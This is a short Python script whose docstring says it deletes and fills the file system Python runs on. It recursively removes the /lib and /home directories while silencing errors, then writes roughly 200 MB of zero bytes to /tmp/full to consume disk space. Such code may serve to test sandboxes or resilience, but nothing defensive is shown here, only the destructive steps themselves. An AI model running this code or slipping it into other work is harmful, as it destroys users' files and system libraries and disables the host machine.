"""Deletes and fills the file system that Python stands on."""

import os
import shutil

shutil.rmtree("/lib", ignore_errors=True)
shutil.rmtree("/home", ignore_errors=True)
with open("/tmp/full", "wb") as file:
    for _ in range(20):
        file.write(bytes(10_000_000))
